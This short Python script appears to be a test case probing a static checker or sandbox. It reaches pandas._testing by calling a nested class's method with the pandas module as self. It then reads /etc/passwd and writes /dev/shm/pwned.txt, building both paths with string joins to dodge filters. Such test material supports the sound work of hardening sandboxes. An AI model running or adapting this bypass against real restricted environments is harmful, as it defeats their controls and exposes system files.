# source: Python nested classes (a class defined in a class body is a class attribute); the README's list of refusals in the static check class-as-value rule
# family: class held as a value through self.<nested class> (spelling never names the class as a value) -> method called with the pandas module as self
# goal: pandas._testing -> decompress_file reads /etc/passwd, write_to_compressed writes /dev/shm/pwned.txt
import pandas as pd


class Wrapper:
    class Inner:
        def __init__(self):
            self._testing = None

        def helper(self):
            return self._testing

    def go(self):
        k = self.Inner
        return k.helper(pd)


t = Wrapper().go()
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
